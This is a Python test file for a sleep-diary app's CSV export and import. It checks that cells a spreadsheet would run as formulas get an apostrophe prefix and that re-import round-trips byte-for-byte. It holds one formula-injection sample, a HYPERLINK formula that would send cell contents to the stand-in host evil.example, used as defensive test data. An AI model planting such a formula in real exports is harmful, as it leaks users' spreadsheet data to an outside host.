"""Every CSV the app writes is safe to open in a spreadsheet (domain.md section 5): a text cell
starting with =, +, -, @, a tab, a carriage return or an apostrophe gets one more leading
apostrophe; import takes exactly one off, so the round trip stays byte-identical."""

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from rest_framework.test import APIClient

from diary.models import Night, Share, User
from tests.helpers import make_user, share_with, token_client

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2)'


def rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.getvalue().decode())))


@pytest.mark.parametrize(
    ("notes", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1 tablet", "'+1 tablet"),
        ("-5 mg tonight", "'-5 mg tonight"),
        ("@home", "'@home"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("'quoted already", "''quoted already"),
        ("a = b, not a formula", "a = b, not a formula"),
    ],
)
def test_a_note_that_a_spreadsheet_would_run_is_exported_with_one_more_apostrophe(
    alice: User, alice_api: APIClient, make_night: Callable[..., Night], notes: str, cell: str
) -> None:
    make_night(alice, notes=notes)
    [row] = rows(alice_api.get("/api/v1/nights/?format=csv"))
    assert row["notes"] == cell
    # Numbers, dates and times are never prefixed.
    assert (row["night"], row["in_bed"], row["severity"]) == ("2026-11-20", "22:30", "5")


def test_a_username_that_a_spreadsheet_would_run_is_prefixed_in_the_clinic_export(
    clinician: User, make_night: Callable[..., Night]
) -> None:
    plus = make_user("+HYPERLINK", "patient", timezone="UTC")
    share_with(plus, clinician)
    make_night(plus)
    [row] = rows(token_client(clinician).get("/api/v1/patients/nights/?format=csv"))
    assert row["patient"] == "'+HYPERLINK"


def test_the_round_trip_of_risky_notes_is_byte_identical(
    alice: User, alice_shares: Share, make_night: Callable[..., Night]
) -> None:
    for day, notes in enumerate([HYPERLINK, "'one", "''two", "-", "@"], start=10):
        make_night(alice, f"2026-11-{day}", notes=notes)
    exported = token_client(alice).get("/api/v1/nights/?format=csv").getvalue()

    twin = make_user("alice_twin", "patient", timezone=alice.timezone)
    twin_api = token_client(twin)
    response = twin_api.post("/api/v1/nights/import/", exported, content_type="text/csv")
    assert response.status_code == 201, response.json()
    assert sorted(twin.nights.values_list("notes", flat=True)) == sorted(
        [HYPERLINK, "'one", "''two", "-", "@"]
    )
    again = twin_api.get("/api/v1/nights/?format=csv").getvalue()
    assert again == exported
